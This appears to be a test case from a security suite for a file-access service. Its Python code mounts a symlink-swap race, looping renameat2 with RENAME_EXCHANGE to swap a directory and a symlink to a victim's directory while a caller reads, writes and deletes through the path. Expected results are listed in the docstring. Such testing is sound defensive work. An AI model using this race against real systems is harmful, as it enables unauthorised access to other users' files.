"""Swaps a directory on a file's path for links to others', while a caller reads through it.

attack: 28 33
guarantee: G1 G2 G9
observed: {"swapping": true}
calls: {"read folder/victim.txt x60": ["OK", "FailedPrecondition", "NotFound"],
  "write folder/victim.txt x30": ["OK", "FailedPrecondition", "NotFound", "ResourceExhausted", "Aborted"],
  "delete folder/victim.txt x10": ["OK", "FailedPrecondition", "NotFound"],
  "write folder/new/deep x20": ["OK", "FailedPrecondition", "NotFound", "ResourceExhausted", "Aborted"]}
"""

from kit import *

victims = os.path.dirname(facts()["victim"])
os.symlink(victims, "other")
os.mkdir("folder")
open("folder/victim.txt", "w").write("own")
one, two = address(b"folder\0"), address(b"other\0")
if os.fork() == 0:
    os.setsid()
    while True:
        syscall("renameat2", -100, one, -100, two, 2)  # RENAME_EXCHANGE: the name is always there
report({"swapping": True}, os.path.lexists("folder"))
